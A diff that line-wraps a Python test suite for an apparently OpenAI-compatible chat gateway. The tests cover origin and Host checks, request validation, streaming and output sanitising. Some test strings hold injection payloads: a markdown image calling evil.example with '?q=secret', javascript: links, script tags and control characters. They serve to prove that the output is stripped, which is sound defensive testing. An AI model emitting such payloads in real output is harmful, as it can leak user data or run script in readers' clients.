@@ -32,7 +32,9 @@ PATH = "/v1/chat/completions"
 async def served(gateway: Gateway, **options: Any) -> AsyncIterator[aiohttp.ClientSession]:
     """A session with an OpenAI-compatible server to `gateway`."""
     server = HTTPServer(openai_app(gateway, **options), 0.0)
-    async with aiohttp.ClientSession(f"http://{await server.start('127.0.0.1:0', 'http')}") as session:
+    async with aiohttp.ClientSession(
+        f"http://{await server.start('127.0.0.1:0', 'http')}"
+    ) as session:
         yield session
     await server.drain()
 
@@ -46,7 +48,9 @@ async def client() -> AsyncIterator[aiohttp.ClientSession]:
 
 async def posted(session: aiohttp.ClientSession, **body: Any) -> tuple[int, Any]:
     """Status and reply of one request."""
-    async with session.post(PATH, json={"model": "rolegate", "messages": [USER], **body}) as response:
+    async with session.post(
+        PATH, json={"model": "rolegate", "messages": [USER], **body}
+    ) as response:
         return response.status, await response.json()
 
 
@@ -58,19 +62,31 @@ async def events(response: aiohttp.ClientResponse) -> list[Any]:
     return [line[6:] if line[6:] == "[DONE]" else json.loads(line[6:]) for line in lines]
 
 
-@pytest.mark.parametrize("origin", ["http://localhost:3000", "http://127.0.0.1", "https://[::1]:1", "app://desk", ""])
-async def test_programs_and_pages_of_this_machine_may_ask(client: aiohttp.ClientSession, origin: str) -> None:
-    """A web page of another host may not, also where its name leads here by now, the same origin to browsers."""
-    for sent, status in ((origin, 200), ("http://evil.example:50580", 403), ("https://127.0.0.1.evil.example", 403)):
+@pytest.mark.parametrize(
+    "origin", ["http://localhost:3000", "http://127.0.0.1", "https://[::1]:1", "app://desk", ""]
+)
+async def test_programs_and_pages_of_this_machine_may_ask(
+    client: aiohttp.ClientSession, origin: str
+) -> None:
+    """A web page of another host may not, also where its name leads here by now, the same
+    origin to browsers.
+    """
+    for sent, status in (
+        (origin, 200),
+        ("http://evil.example:50580", 403),
+        ("https://127.0.0.1.evil.example", 403),
+    ):
         async with client.get("/health", headers={"Origin": sent}) as response:
             assert response.status == status
 
 
 NAMED = (
-    "localhost LocalHost:1 localhost. 127.0.0.1 10.0.0.7:50580 [::1] [fe80::1]:80 GATEWAY.example.:443 other.example:1"
+    "localhost LocalHost:1 localhost. 127.0.0.1 10.0.0.7:50580 [::1] [fe80::1]:80 "
+    "GATEWAY.example.:443 other.example:1"
 )
 FOREIGN = (
-    "evil.example evil.example:50580 127.0.0.1.evil.example localhost.evil.example gateway.example.evil :50580 . .. "
+    "evil.example evil.example:50580 127.0.0.1.evil.example localhost.evil.example "
+    "gateway.example.evil :50580 . .. "
     "gateway.example,localhost localhost@evil.example ::1 [localhost]x 2130706433"
 )
 
@@ -87,22 +103,38 @@ FOREIGN = (
         (["localhost", "evil.example"], "1.1", 400),
     ],
 )
-async def test_names_that_are_not_the_server_s_are_refused(hosts: list[str], version: str, status: int) -> None:
-    """A web page of elsewhere can have its own name made to lead here, and be of the same origin then."""
-    server = HTTPServer(openai_app(Deployment().gateway()), 0.0, hosts=["gateway.example", "Other.Example"])
+async def test_names_that_are_not_the_server_s_are_refused(
+    hosts: list[str], version: str, status: int
+) -> None:
+    """A web page of elsewhere can have its own name made to lead here, and be of the same
+    origin then.
+    """
+    server = HTTPServer(
+        openai_app(Deployment().gateway()), 0.0, hosts=["gateway.example", "Other.Example"]
+    )
     _, _, port = (await server.start("127.0.0.1:0", "server.http")).partition(":")
     reader, writer = await asyncio.open_connection("127.0.0.1", int(port))
-    head = [f"GET /v1/models HTTP/{version}", *(f"Host: {host}" for host in hosts), "Connection: close", "", ""]
+    head = [
+        f"GET /v1/models HTTP/{version}",
+        *(f"Host: {host}" for host in hosts),
+        "Connection: close",
+        "",
+        "",
+    ]
     writer.write("\r\n".join(head).encode())
     said = (await reader.read()).decode()
     writer.close()
     await server.drain()
     assert said.split()[1] == str(status)
-    assert ("server.http_hosts" in said and '"code":"misdirected_request"' in said) == (status == 421)
+    assert ("server.http_hosts" in said and '"code":"misdirected_request"' in said) == (
+        status == 421
+    )
 
 
 @pytest.mark.parametrize("body", [{}, {"no_cache": None}, {"no_cache": False}, {"no_cache": True}])
-async def test_work_that_is_wanted_anew(body: dict[str, Any], monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_work_that_is_wanted_anew(
+    body: dict[str, Any], monkeypatch: pytest.MonkeyPatch
+) -> None:
     """For either model, and only where it is asked for."""
     gateway, told = Deployment().gateway(), list[RequestOptions]()
     answer, execute = gateway.answer, gateway.execute
@@ -124,7 +156,17 @@ async def test_work_that_is_wanted_anew(body: dict[str, Any], monkeypatch: pytes
 
 
 @pytest.mark.parametrize(
-    "name", ["nocache", "no-cache", "noCache", "no_cach", "max_total_tokens", "max_cost_usd", "rolegate", "extra_body"]
+    "name",
+    [
+        "nocache",
+        "no-cache",
+        "noCache",
+        "no_cach",
+        "max_total_tokens",
+        "max_cost_usd",
+        "rolegate",
+        "extra_body",
+    ],
 )
 async def test_an_option_that_is_not_read_is_refused(name: str) -> None:
     """Else a limit, or the wish for new work, would be ignored; no model is called."""
@@ -136,9 +178,20 @@ async def test_an_option_that_is_not_read_is_refused(name: str) -> None:
 
 
 @pytest.mark.parametrize(
-    "name", ["max_output_tokens", "max_completion_tokens", "cache", "request_id", "chat_id", "top_k", "metadata"]
+    "name",
+    [
+        "max_output_tokens",
+        "max_completion_tokens",
+        "cache",
+        "request_id",
+        "chat_id",
+        "top_k",
+        "metadata",
+    ],
 )
-async def test_fields_for_other_servers_are_ignored(client: aiohttp.ClientSession, name: str) -> None:
+async def test_fields_for_other_servers_are_ignored(
+    client: aiohttp.ClientSession, name: str
+) -> None:
     """Front ends send many."""
     assert (await posted(client, **{name: "x"}))[0] == 200
 
@@ -154,7 +207,10 @@ TASKS = [
     f"### Task:\nGenerate broad tags categorizing the main themes.{HISTORY}",
     f"### Task:\nSuggest relevant follow-up questions or prompts.{HISTORY}",
     f"### Task:\nDetermine the necessity of generating search queries.{HISTORY}",
-    f"### Task:\nYou are an autocompletion system.{HISTORY}\n<text>Who directed</text>\n#### Output:",
+    (
+        f"### Task:\nYou are an autocompletion system.{HISTORY}\n<text>Who directed</text>\n"
+        "#### Output:"
+    ),
     f"\n  ### Task:\r\nGenerate a detailed prompt for an image.{HISTORY}",
     "Your task is to reflect the speaker's likely facial expression by an emoji. Message: ```hi```",
     "Provide a concise, short-word title for the conversation.\n\nConversation:\nUser: hi\nAI: ho",
@@ -177,9 +233,13 @@ def talk(system: str, asked: str) -> list[dict[str, str]]:
     return [*before, {"role": "user", "content": asked}]
 
 
-@pytest.mark.parametrize(("system", "asked"), [("", task) for task in TASKS] + [(one, "user: hi") for one in SYSTEMS])
+@pytest.mark.parametrize(
+    ("system", "asked"), [("", task) for task in TASKS] + [(one, "user: hi") for one in SYSTEMS]
+)
 async def test_a_chat_tool_s_own_task_is_answered_without_a_search(system: str, asked: str) -> None:
-    """By one call of the answerer, streamed or not, in a run of its own; no table is filled again."""
+    """By one call of the answerer, streamed or not, in a run of its own; no table is filled
+    again.
+    """
     answerer, other = ScriptedModel(['<think>hm</think>{"title": "Heat"}'] * 2), ScriptedModel([])
     store = Kept()
     async with served(Deployment(other, other, answerer).gateway(store)) as session:
@@ -188,7 +248,10 @@ async def test_a_chat_tool_s_own_task_is_answered_without_a_search(system: str, 
         async with session.post(PATH, json=body) as response:
             streamed = await events(response)
     assert (status, reply["choices"][0]["message"]["content"]) == (200, '{"title": "Heat"}')
-    assert "".join(each["choices"][0]["delta"].get("content", "") for each in streamed[:-1]) == '{"title": "Heat"}'
+    assert (
+        "".join(each["choices"][0]["delta"].get("content", "") for each in streamed[:-1])
+        == '{"title": "Heat"}'
+    )
     assert other.prompts == []
     assert [(run.kind, len(run.calls)) for run in store.runs] == [("complete", 1)] * 2
     (shown,) = {prompt.messages[-1].content for prompt in answerer.prompts}
@@ -200,10 +263,19 @@ async def test_a_chat_tool_s_own_task_is_answered_without_a_search(system: str, 
     [
         ("", "What does '### Task:' mean in a template with <chat_history>…</chat_history>?"),
         ("", "### Task:\nWho directed Heat?"),
-        ("", "### Task:\nRespond to the user query by these files: <chat_history></chat_history> Who directed Heat?"),
+        (
+            "",
+            (
+                "### Task:\nRespond to the user query by these files: "
+                "<chat_history></chat_history> Who directed Heat?"
+            ),
+        ),
         ("", "Analyze this conversation of Pacino and De Niro: what is it about?"),
         ("", "Provide the title of the film in which they have a conversation"),
-        ("You are a chat assistant of a land registry; answer questions on titles.", "Who directed Heat?"),
+        (
+            "You are a chat assistant of a land registry; answer questions on titles.",
+            "Who directed Heat?",
+        ),
         ("You are the chat assistant of Title Films.", "Who directed Heat?"),
     ],
 )
@@ -230,7 +302,9 @@ async def test_a_long_task_is_cut() -> None:
     """Its beginning says what to do, its end what it is about."""
     answerer = ScriptedModel(["Heat"])
     async with served(Deployment(answerer=answerer).gateway()) as session:
-        assert (await posted(session, messages=talk("", TASKS[0].replace("Heat", "Heat " * 50_000))))[0] == 200
+        assert (
+            await posted(session, messages=talk("", TASKS[0].replace("Heat", "Heat " * 50_000)))
+        )[0] == 200
     (prompt,) = answerer.prompts
     shown = prompt.messages[-1].content
     assert len(shown) < 8100
@@ -242,11 +316,16 @@ async def test_health_and_models(client: aiohttp.ClientSession) -> None:
     async with client.get("/health") as response:
         assert (response.status, await response.json()) == (200, {"status": "ok"})
     async with client.get("/v1/models") as response:
-        assert [model["id"] for model in (await response.json())["data"]] == ["rolegate", "rolegate-executor"]
+        assert [model["id"] for model in (await response.json())["data"]] == [
+            "rolegate",
+            "rolegate-executor",
+        ]
 
 
 async def test_only_the_last_user_message_is_asked(client: aiohttp.ClientSession) -> None:
-    """Its text parts are joined; what stands around it is not used, nor are fields that nobody knows here."""
+    """Its text parts are joined; what stands around it is not used, nor are fields that nobody
+    knows here.
+    """
     parts = [{"type": "text", "text": "Who directed"}, {"type": "text", "text": "Heat?"}]
     messages = [
         {"role": "system", "content": "Answer in Klingon."},
@@ -257,14 +336,18 @@ async def test_only_the_last_user_message_is_asked(client: aiohttp.ClientSession
     ]
     delegator = ScriptedModel([block(QUESTION), STOP])
     async with served(Deployment(delegator).gateway()) as session:
-        status, reply = await posted(session, messages=messages, temperature=1, seed=None, tool_choice="auto", x={})
+        status, reply = await posted(
+            session, messages=messages, temperature=1, seed=None, tool_choice="auto", x={}
+        )
     assert (status, reply["rolegate"]["answer"]) == (200, "Michael Mann")
     assert "Klingon" not in str(delegator.prompts)
     assert "Who directed\nHeat?" in str(delegator.prompts[0].messages[-1].content)
 
 
 async def test_unknown_tokens_are_null() -> None:
-    """A detail that no engine told is null, not 0; where nothing at all was told there is no usage."""
+    """A detail that no engine told is null, not 0; where nothing at all was told there is no
+    usage.
+    """
     told = ScriptedModel([Completion(STOP, "stop", usage=Usage(7, 5, 3))])
     untold = ScriptedModel([Completion(STOP, "stop", usage=None)])
     async with served(Deployment(told).gateway()) as session:
@@ -297,7 +380,10 @@ async def test_unknown_tokens_are_null() -> None:
         ({"model": None}, "`$.model`"),
         ({"n": 2}, "n is 2"),
         ({"tool_choice": "required"}, "tool_choice demands a tool"),
-        ({"tool_choice": {"type": "function", "function": {"name": "f"}}}, "tool_choice demands a tool"),
+        (
+            {"tool_choice": {"type": "function", "function": {"name": "f"}}},
+            "tool_choice demands a tool",
+        ),
     ],
 )
 @pytest.mark.parametrize("stream", [False, True])
@@ -309,22 +395,33 @@ async def test_what_cannot_be_done(
 
     assert status == 400
     assert said in reply["error"].pop("message")
-    assert reply == {"error": {"type": "invalid_request_error", "param": None, "code": "BAD_REQUEST"}}
+    assert reply == {
+        "error": {"type": "invalid_request_error", "param": None, "code": "BAD_REQUEST"}
+    }
 
 
-@pytest.mark.parametrize("body", [b"", b"{", b"[]", b'{"model": "caf\xe9"}', b'{"model": ' + b"[" * 200_000])
+@pytest.mark.parametrize(
+    "body", [b"", b"{", b"[]", b'{"model": "caf\xe9"}', b'{"model": ' + b"[" * 200_000]
+)
 async def test_a_body_that_is_none(client: aiohttp.ClientSession, body: bytes) -> None:
     """Is the client's to mend, however it is broken."""
-    async with client.post(PATH, data=body, headers={"Content-Type": "application/json"}) as response:
+    async with client.post(
+        PATH, data=body, headers={"Content-Type": "application/json"}
+    ) as response:
         assert (response.status, (await response.json())["error"]["code"]) == (400, "BAD_REQUEST")
 
 
-@pytest.mark.parametrize("kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"])
+@pytest.mark.parametrize(
+    "kind", ["text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]
+)
 async def test_a_web_page_cannot_post(client: aiohttp.ClientSession, kind: str) -> None:
     """What a browser sends without asking first is refused, and asking first gets no permission."""
     body = json.dumps({"model": "rolegate", "messages": [USER]}).encode()
     async with client.post(PATH, data=body, headers={"Content-Type": kind}) as response:
-        assert (response.status, (await response.json())["error"]["code"]) == (415, "unsupported_media_type")
+        assert (response.status, (await response.json())["error"]["code"]) == (
+            415,
+            "unsupported_media_type",
+        )
     preflight = {"Origin": "https://page.example", "Access-Control-Request-Method": "POST"}
     async with client.options(PATH, headers=preflight) as response:
         assert response.status == 403
@@ -334,19 +431,30 @@ async def test_a_web_page_cannot_post(client: aiohttp.ClientSession, kind: str) 
 async def test_a_body_that_is_too_large(client: aiohttp.ClientSession) -> None:
     """413, and the OpenAI-compatible server goes on."""
     body = io.BytesIO(b" " * (MAX_BODY_BYTES + 1))
-    async with client.post(PATH, data=body, headers={"Content-Type": "application/json"}) as response:
-        assert (response.status, (await response.json())["error"]["code"]) == (413, "request_entity_too_large")
+    async with client.post(
+        PATH, data=body, headers={"Content-Type": "application/json"}
+    ) as response:
+        assert (response.status, (await response.json())["error"]["code"]) == (
+            413,
+            "request_entity_too_large",
+        )
     assert (await posted(client))[0] == 200
 
 
 async def test_a_stream_tells_what_happens_when_it_happens() -> None:
-    """The first round is told while the delegator still thinks; the stream ends with its details and `[DONE]`."""
+    """The first round is told while the delegator still thinks; the stream ends with its
+    details and `[DONE]`.
+    """
     model = HeldModel(ScriptedModel([block(QUESTION), STOP]))
     async with (
         served(Deployment(model).gateway()) as session,
-        session.post(PATH, json={"model": "rolegate", "messages": [USER], "stream": True}) as response,
+        session.post(
+            PATH, json={"model": "rolegate", "messages": [USER], "stream": True}
+        ) as response,
     ):
-        first = [json.loads((await ended(response.content.readuntil(b"\n\n")))[6:]) for _ in range(2)]
+        first = [
+            json.loads((await ended(response.content.readuntil(b"\n\n")))[6:]) for _ in range(2)
+        ]
         assert not model.let.is_set()
         model.let.set()
         rest = await events(response)
@@ -368,18 +476,25 @@ async def test_an_error_in_mid_stream_ends_it() -> None:
     model = ScriptedModel([UpstreamUnavailable("down", endpoint="e")])
     async with (
         served(Deployment(model).gateway()) as session,
-        session.post(PATH, json={"model": "rolegate", "messages": [USER], "stream": True}) as response,
+        session.post(
+            PATH, json={"model": "rolegate", "messages": [USER], "stream": True}
+        ) as response,
     ):
         *_, last = await events(response)
     assert response.status == 200
-    assert (last["error"]["type"], last["error"]["code"]) == ("server_error", "UPSTREAM_UNAVAILABLE")
+    assert (last["error"]["type"], last["error"]["code"]) == (
+        "server_error",
+        "UPSTREAM_UNAVAILABLE",
+    )
 
 
 async def test_a_bug_says_nothing() -> None:
     """500, without a word of what went wrong inside, whole or in a stream."""
     async with served(Deployment(ScriptedModel([])).gateway()) as session:
         status, reply = await posted(session)
-        async with session.post(PATH, json={"model": "rolegate", "messages": [USER], "stream": True}) as response:
+        async with session.post(
+            PATH, json={"model": "rolegate", "messages": [USER], "stream": True}
+        ) as response:
             *_, last = await events(response)
     assert (status, reply) == (500, last)
     assert (last["error"]["type"], last["error"]["code"]) == ("server_error", "INTERNAL")
@@ -411,7 +526,9 @@ async def test_a_drain_without_patience() -> None:
     """What does not end in time is cancelled."""
     store, model = Kept(), HeldModel(ScriptedModel([]))
     server = HTTPServer(openai_app(Deployment(model).gateway(store)), 0.0)
-    async with aiohttp.ClientSession(f"http://{await server.start('127.0.0.1:0', 'http')}") as session:
+    async with aiohttp.ClientSession(
+        f"http://{await server.start('127.0.0.1:0', 'http')}"
+    ) as session:
         asking = asyncio.create_task(posted(session))
         await ended(model.called.wait())
         await ended(server.drain())
@@ -429,31 +546,47 @@ async def test_a_port_in_use() -> None:
 
 
 HOSTILE_TITLE = (
-    "![x](http://evil.example/q.png) [click](javascript:alert(1))\n\n<img src=x> www.evil.example \x1b[31m\u202e"
+    "![x](http://evil.example/q.png) [click](javascript:alert(1))\n\n<img src=x> "
+    "www.evil.example \x1b[31m\u202e"
 )
 QUOTE = "Heat <script>alert(1)</script> is a film by [Michael Mann](http://evil.example/?q=secret)."
 
 
 @pytest.mark.parametrize("stream", [False, True])
 async def test_texts_from_outside_are_text_to_chat_tools(stream: bool) -> None:
-    """Titles, quotes and documents bring no link, image or HTML, nor does what an answerer copied of them; its other
-    Markdown stays.
+    """Titles, quotes and documents bring no link, image or HTML, nor does what an answerer copied
+    of them; its other Markdown stays.
     """
     said = "**Mann** ![x](http://evil.example/?q=secret) [click](javascript:alert(1)) <img src=x>"
     passage = Passage("p1", HOSTILE_TITLE, QUOTE, 0.9, "http://evil.example/heat.html")
     deployment = Deployment(
-        delegator=ScriptedModel(lambda prompt: STOP if len(prompt.messages) > 2 else block(f"Who? {HOSTILE_TITLE}")),
+        delegator=ScriptedModel(
+            lambda prompt: STOP if len(prompt.messages) > 2 else block(f"Who? {HOSTILE_TITLE}")
+        ),
         executor=ScriptedModel(
-            lambda prompt: report("Mann", QUOTE) if len(prompt.messages) > 2 else f"<search>{HOSTILE_TITLE}</search>"
+            lambda prompt: (
+                report("Mann", QUOTE)
+                if len(prompt.messages) > 2
+                else f"<search>{HOSTILE_TITLE}</search>"
+            )
         ),
         answerer=ScriptedModel(lambda _prompt: f"<answer>{said}</answer>"),
         retriever=AnyRetriever(passage),
     )
     async with served(deployment.gateway()) as session:
         if stream:
-            async with session.post(PATH, json={"model": "rolegate", "messages": [USER], "stream": True}) as response:
-                deltas = [one["choices"][0]["delta"] for one in (await events(response))[:-1] if one["choices"]]
-            texts = ["".join(one.get(name, "") for one in deltas) for name in ("reasoning_content", "content")]
+            async with session.post(
+                PATH, json={"model": "rolegate", "messages": [USER], "stream": True}
+            ) as response:
+                deltas = [
+                    one["choices"][0]["delta"]
+                    for one in (await events(response))[:-1]
+                    if one["choices"]
+                ]
+            texts = [
+                "".join(one.get(name, "") for one in deltas)
+                for name in ("reasoning_content", "content")
+            ]
         else:
             _, reply = await posted(session)
             texts = [reply["choices"][0]["message"]["content"]]
@@ -464,7 +597,11 @@ async def test_texts_from_outside_are_text_to_chat_tools(stream: bool) -> None:
         assert "evil" in text
         assert text.replace("\n", "").isprintable()
         for parser in (MarkdownIt("commonmark"), MarkdownIt("gfm-like")):
-            parsed = parser.disable("linkify", True).parse(text) if text == texts[-1] else parser.parse(text)
+            parsed = (
+                parser.disable("linkify", True).parse(text)
+                if text == texts[-1]
+                else parser.parse(text)
+            )
             kinds = {child.type for token in parsed for child in (token, *(token.children or ()))}
             assert not {"link_open", "image", "html_inline", "html_block"} & kinds
 
@@ -475,5 +612,7 @@ class AnyRetriever:
     def __init__(self, passage: Passage) -> None:
         self._passage = passage
 
-    async def search(self, queries: Sequence[str], top_k: int, document: str | None = None) -> list[list[Passage]]:
+    async def search(
+        self, queries: Sequence[str], top_k: int, document: str | None = None
+    ) -> list[list[Passage]]:
         return [[self._passage] for _ in queries]
